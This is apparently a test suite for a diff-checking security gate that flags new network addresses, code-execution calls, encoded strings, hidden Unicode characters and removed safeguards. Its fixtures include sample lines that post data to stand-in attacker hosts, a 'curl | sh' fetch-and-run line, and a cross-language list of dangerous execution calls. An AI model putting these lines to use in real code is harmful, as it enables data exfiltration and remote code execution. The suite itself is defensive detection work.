"""Risky code in new lines gets a finding; code that was there before does not."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.gate.answer_findings import QUIET, facts_of, findings_of

from twospeed.gate import check
from twospeed.gate.code_execution import executing_names

OLD = """\
import os


def load(path, user):
    # see https://docs.python.org
    check_permission(user)
    assert path
    return open(path)
"""


def added(line: str, old: str = OLD, language_id: str = "python") -> list[tuple[str, int, str]]:
    """Return the findings of an answer with one more line above the last one."""
    *most, last = old.splitlines(keepends=True)
    return findings_of(old, "".join([*most, f"    {line}\n", last]), language_id)


def codes(line: str, language_id: str = "python") -> list[str]:
    return [code for code, _, _ in added(line, language_id=language_id)]


# Addresses


@pytest.mark.security("R1.4")
@pytest.mark.parametrize(
    ("line", "host"),
    [
        ('post("https://collect.evil.io/x?k=1", data)', "collect.evil.io"),
        ('post("https://user:pw@evil.io:8443/")', "evil.io"),
        ('post(f"wss://evil.io/{path}")', "evil.io"),
        ('connect("203.0.113.7")', "203.0.113.7"),
        ('connect("http://203.0.113.7:80")', "203.0.113.7"),
        ('connect("2001:db8::7")', "2001:db8::7"),
        ('connect("http://[2001:db8::7]/")', "2001:db8::7"),
        ('connect("evil.example.attacker.net:443")', "evil.example.attacker.net"),
    ],
)
def test_a_new_address_is_reported_on_its_line(line: str, host: str) -> None:
    assert added(line) == [("new-address", 7, f'"{host}" is a new network address')]


@pytest.mark.parametrize(
    "line",
    [
        'get("https://docs.python.org/3/")',  # the document has it already
        'connect("127.0.0.1"); connect("http://localhost:8000"); connect("::1")',
        'get("https://example.com"); get("http://api.test")',
        "# see https://evil.io",
        'name = "os.path"; file = "README.md"; version = "1.2.3"; kind = "a.b.C"',
        'ns = "http://www.w3.org/2000/svg"',
        'get(f"https://{host}/x")',
    ],
)
def test_local_reserved_and_known_hosts_are_not_new_addresses(line: str) -> None:
    assert codes(line) == []


def test_many_new_addresses_search_the_document_once() -> None:
    class Counted(list[str]):
        n_times = 0

        def __iter__(self) -> Iterator[str]:
            Counted.n_times += 1
            return super().__iter__()

    links = "".join(f'"https://a{number}.net/x",\n' for number in range(9))
    old, new = f"x = [\n{links}]\n", f"y = [\n{links.replace('/x', '/y')}]\n"
    assert findings_of(old, new, document=Counted(old.splitlines(keepends=True))) == []
    assert Counted.n_times == 1


# What runs something


@pytest.mark.security("R1.4")
@pytest.mark.parametrize(
    ("language_id", "line", "name"),
    [
        ("python", "eval(path)", "eval"),
        ("python", "os.system(path)", "os.system"),
        ("python", "subprocess.run(path, shell=True)", "subprocess.run"),
        ("python", "pickle.loads(path)", "pickle.loads"),
        ("javascript", "eval(path)", "eval"),
        ("javascript", "new Function('a', b)", "new Function"),
        ("typescript", "child_process.exec(a)", "child_process"),
        ("go", "exec.Command(a)", "exec.Command"),
        ("rust", "Command::new(a)", "Command::new"),
        ("java", "Runtime.getRuntime().exec(a)", "getRuntime().exec"),
        ("kotlin", "ProcessBuilder(a)", "ProcessBuilder"),
        ("c", "system(a)", "system"),
        ("cpp", "popen(a, b)", "popen"),
        ("csharp", "Process.Start(a)", "Process.Start"),
        ("ruby", "system cmd", "system"),
        ("ruby", "Marshal.load(a)", "Marshal.load"),
        ("php", "shell_exec($a)", "shell_exec"),
        ("php", "unserialize($a)", "unserialize"),
        ("shellscript", 'eval "$a"', "eval"),
        ("shellscript", "curl $a | sh", "sh"),
        ("lua", "os.execute(a)", "os.execute"),
        ("powershell", "Invoke-Expression $a", "Invoke-Expression"),
        ("elixir", "System.cmd(a, b)", "System.cmd"),
        ("zig", "eval(a)", "eval"),
    ],
)
def test_executing_calls_match_in_each_language(language_id: str, line: str, name: str) -> None:
    assert next(executing_names(line, language_id)).strip("| ") == name


@pytest.mark.parametrize(
    ("language_id", "line"),
    [
        ("python", "re.compile(path)"),
        ("python", "my_eval(path)"),
        ("python", "model.eval()"),
        ("javascript", "pattern.exec(text)"),
        ("typescript", "evaluate(path)"),
        ("java", "executor.execute(task)"),
        ("c", "filesystem(a)"),
        ("ruby", "exec = 1"),
        ("ruby", "db.exec(sql)"),
        ("php", "$db->exec($sql)"),
        ("php", "curl_exec($c)"),
        ("shellscript", "source_dir=a"),
        ("rust", "process::exit(1)"),
    ],
)
def test_code_with_a_similar_name_does_not_match(language_id: str, line: str) -> None:
    assert list(executing_names(line, language_id)) == []


def test_a_new_executing_call_is_reported() -> None:
    assert added("os.system(path)") == [
        ("runs-code", 7, "os.system is new here and can run other programs or code")
    ]
    assert codes("# os.system(path)") == codes('print("os.system(path)")') == []


def test_a_new_executing_module_is_reported_at_its_line() -> None:
    old = "function f() {\n  return 1;\n}\n"
    new = 'function f() {\n  const c = require("node:child_process");\n  return 1;\n}\n'
    assert findings_of(old, new, "javascript") == [
        ("runs-code", 1, '"node:child_process" is new here and can run other programs or code')
    ]


def test_an_existing_executing_call_may_move_and_change() -> None:
    old = "def f(a):\n    os.system(a)\n    return a\n"
    assert findings_of(old, "def f(a):\n    if a:\n        os.system(a + a)\n    return a\n") == []
    [(code, line, _)] = findings_of(old, "def f(a):\n    os.system(a)\n    os.system(a + a)\n    return a\n")
    assert (code, line) == ("runs-code", 2)


def test_a_copy_of_an_existing_executing_call_is_reported() -> None:
    old = "def f(a):\n    os.system(a)\n    return a\n"
    new = "def f(a):\n    os.system(a)  # once\n    os.system(a)  # twice\n    return a  # thrice\n"
    assert findings_of(old, old.replace("(a)\n    return", "(a)  # a comment\n    return")) == []
    assert [line for code, line, _ in findings_of(old, new) if code == "runs-code"] == [2]


# Unreadable strings

BASE64 = "aGVsbG8gd29ybGQgMTIzNDU2Nzg5MCBRVUlDSyBicm93biBmb3ggSnVtcHMgb3Zlcgo5"


@pytest.mark.security("R1.4")
@pytest.mark.parametrize(
    "line",
    [
        f'key = "{BASE64 * 2}"',
        f'key = "{"0123456789abcdef" * 8}"',
        f'key = "{chr(92)}x41{chr(92)}x42" + "{"".join(chr(92) + f"x{n:02x}" for n in range(40))}"',
    ],
)
def test_a_long_encoded_string_is_reported(line: str) -> None:
    [(code, at, message)] = added(line)
    assert (code, at) == ("encoded-literal", 7)
    assert message.endswith("characters of a new string are encoded and not readable")


def test_an_encoded_string_in_several_lines_is_one_finding() -> None:
    pieces = "".join(f'        "{BASE64}"\n' for _ in range(3))
    new = OLD.replace("    return", f"    key = (\n{pieces}    )\n    return")
    findings = check(facts_of(OLD, new), QUIET).findings
    assert [(each.code, each.first_line, each.last_line) for each in findings] == [("encoded-literal", 8, 10)]


@pytest.mark.parametrize(
    "line",
    [
        f'key = "{BASE64[:60]}"',
        f'print("{"a sentence of some words, " * 8}")',
        f'rule = "{"-" * 200}"',
        f'path = "{"/usr/share/some-where/" * 8}"',
        f'zeros = "{"0" * 200}"',
    ],
)
def test_a_long_readable_string_is_not_reported(line: str) -> None:
    assert codes(line) == []


# Invisible characters


@pytest.mark.security("R1.4")
def test_a_hidden_character_repeated_in_a_new_line_is_reported() -> None:
    old = 'a = "\u202e"\nb = 1\n'
    assert findings_of(old, old + 'c = "x\u202ey"\n') == [
        ("hidden-characters", 2, "an invisible character is new here: U+202E RIGHT-TO-LEFT OVERRIDE")
    ]
    assert findings_of(old, old.replace("a =", "name =")) == []
    assert findings_of(old, old + 'c = "👩\u200d💻"\n') == [], "joiners are at work there"


# What held something back


@pytest.mark.security("R1.4")
@pytest.mark.parametrize(
    ("gone", "name"), [("    check_permission(user)\n", "check_permission"), ("    assert path\n", "assert")]
)
def test_a_removed_check_is_reported_at_its_old_place(gone: str, name: str) -> None:
    line = OLD[: OLD.index(gone)].count("\n")
    assert findings_of(OLD, OLD.replace(gone, "")) == [
        ("removed-safeguard", line, f"{name} was removed here")
    ]


def test_a_removed_verification_is_reported_in_other_languages() -> None:
    old = "func f(t string) error {\n\tif !jwt.VerifyToken(t) {\n\t\treturn bad\n\t}\n\treturn nil\n}\n"
    new = "func f(t string) error {\n\treturn nil\n}\n"
    assert ("removed-safeguard", 1, "VerifyToken was removed here") in findings_of(old, new, "go")


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("check_permission(user)", "check_permissions(user, path)"),
        ("assert path", "assert path and user"),
        ("assert path", "assert path  # there is one"),
        ("# see https://docs.python.org", "# the author is not named"),
        ("return open(path)", "return open(path, encoding='utf-8')"),
    ],
)
def test_a_changed_check_is_not_reported_as_removed(old: str, new: str) -> None:
    assert findings_of(OLD, OLD.replace(old, new)) == []


LINES = st.lists(
    st.sampled_from([*OLD.splitlines(), "    os.system(path)", '    get("https://evil.io")']), max_size=12
)


@given(LINES, LINES)
def test_findings_are_inside_the_scope_and_unchanged_text_has_none(old: list[str], new: list[str]) -> None:
    before, after = "\n".join([*old, ""]), "\n".join([*new, ""])
    facts = facts_of(before, after)
    for finding in check(facts, QUIET).findings:
        assert facts.first_line <= finding.first_line <= finding.last_line <= facts.last_line
    assert findings_of(before, before) == []
